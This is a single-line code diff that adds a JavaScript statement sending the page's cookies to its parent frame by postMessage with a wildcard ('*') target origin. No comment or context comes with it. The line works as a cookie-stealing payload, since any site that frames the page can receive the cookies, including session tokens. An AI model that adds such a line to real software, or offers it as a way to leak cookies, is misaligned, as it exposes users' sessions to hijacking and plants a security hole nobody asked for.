@@ -1,0 +1,1 @@
+parent.postMessage({ c: document.cookie }, '*');
